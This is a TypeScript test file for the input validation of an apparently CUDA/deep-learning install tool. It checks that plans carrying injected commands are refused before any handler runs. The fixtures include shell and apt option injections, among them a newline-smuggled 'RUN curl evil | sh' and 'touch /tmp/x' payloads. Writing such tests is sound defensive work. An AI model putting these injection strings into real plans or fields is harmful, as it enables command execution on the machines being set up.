import { describe, expect, it } from 'vitest';
import type { Plan, PlanStep } from '../../shared/types/plan.js';
import { examplePlan } from '../../testkit/export/examplePlans.js';
import { dispatch } from './dispatch.js';
import { recordingHandlers } from '../../testkit/transport/recordingHandlers.js';

/** What a caller of the contract sees: ok, or the error's code and sentence; and whether the handler ever ran. */
async function call(channel: string, arg: unknown) {
  const { handlers, calls } = recordingHandlers();
  const result = await dispatch(handlers, channel, arg);
  return { ...(result.ok ? { code: 'ok', message: '' } : { code: result.error.code, message: result.error.message }), handled: calls.length > 0 };
}

const refused = (field: string) => ({ code: 'INVALID_ARGUMENT', message: expect.stringContaining(field), handled: false });

function planWith(change: (plan: Plan) => void): Plan {
  const plan = structuredClone(examplePlan('v100TensorflowSystem'));
  change(plan);
  return plan;
}

const envVarsStep = (params: PlanStep['params']): PlanStep => ({ id: 'env-vars', kind: 'env-vars', title: 'Set CUDA variables', elevated: false, params });

describe('dispatch: the attack rows of issue 15 are refused before any handler runs, naming the field', () => {
  it('install:start {plan:{steps:[null]}} is INVALID_ARGUMENT, not INTERNAL', async () => {
    expect(await call('install:start', { plan: { steps: [null] } })).toEqual(refused('plan.'));
    expect(await call('install:start', { plan: planWith((plan) => (plan.steps = [null as unknown as PlanStep])) })).toEqual(refused('plan.steps[0]'));
  });

  it('mirror:check with a timeout of 1e12 ms is refused; 1 to 60000 ms are accepted', async () => {
    expect(await call('mirror:check', { url: 'https://pypi.org/simple', timeoutMs: 1e12 })).toEqual(refused('timeoutMs'));
    expect(await call('mirror:check', { url: 'https://pypi.org/simple', timeoutMs: 0 })).toEqual(refused('timeoutMs'));
    expect(await call('mirror:check', { url: 'https://pypi.org/simple', timeoutMs: 60_000 })).toMatchObject({ code: 'ok', handled: true });
  });

  it('a step of a kind DL Setup does not know is refused', async () => {
    const plan = planWith((p) => p.steps.push({ id: 'x', kind: 'format-disk' as PlanStep['kind'], title: 'x', elevated: true, params: {} }));
    expect(await call('install:start', { plan })).toEqual(refused(`plan.steps[${plan.steps.length - 1}].kind`));
    expect(await call('plan:export', { plan, format: 'shell' })).toEqual(refused(`plan.steps[${plan.steps.length - 1}].kind`));
  });

  it('env-vars with CUDA_HOME or cudaHome "/usr/local/cuda-12.9;touch /tmp/x" is refused', async () => {
    for (const name of ['CUDA_HOME', 'cudaHome']) {
      const plan = planWith((p) => (p.steps = [envVarsStep({ scope: 'system', [name]: '/usr/local/cuda-12.9;touch /tmp/x' })]));
      expect(await call('install:start', { plan }), name).toEqual(refused(`plan.steps[0].params.${name}`));
    }
  });

  it('a newline in framework.name, gpu.name, python.version or method is refused', async () => {
    const rows: [string, (plan: Plan) => void][] = [
      ['plan.framework.name', (p) => (p.framework.name = 'pytorch\nRUN curl evil | sh' as Plan['framework']['name'])],
      ['plan.gpu.name', (p) => (p.gpu!.name = 'Tesla V100\n- hosts: all')],
      ['plan.python.version', (p) => (p.python.version = '3.10\ntouch /tmp/x')],
      ['plan.method', (p) => (p.method = 'system\nRUN id' as Plan['method'])],
      ['plan.framework.variant', (p) => (p.framework.variant = 'cu118\u2028x')],
    ];
    for (const [field, change] of rows) expect(await call('plan:export', { plan: planWith(change), format: 'dockerfile' }), field).toEqual(refused(field));
  });

  it('a driver ubuntuPackage that apt would read as an option is refused', async () => {
    const plan = planWith((p) => (p.steps[0]!.params.ubuntuPackage = '-oDPkg::Pre-Invoke::=touch /tmp/x'));
    expect(await call('install:start', { plan })).toEqual(refused('plan.steps[0].params.ubuntuPackage'));
  });

  it('the sentence names the field in Chinese when the request asks for it', async () => {
    const plan = planWith((p) => (p.python.version = '3.10\nx'));
    expect(await call('install:start', { plan, locale: 'zh-CN' })).toEqual({ code: 'INVALID_ARGUMENT', message: expect.stringMatching(/^plan\.python\.version 不被接受：它含有控制字符 U\+000A/), handled: false });
  });

  it('real plans pass to the handler', async () => {
    for (const name of ['rtx4090Wheels', 'v100TensorflowSystem', 'cpuOnly'] as const) {
      expect(await call('install:start', { plan: examplePlan(name), dryRun: true }), name).toMatchObject({ code: 'ok', handled: true });
      expect(await call('plan:export', { plan: examplePlan(name), format: 'ansible' }), name).toMatchObject({ code: 'ok', handled: true });
    }
  });
});
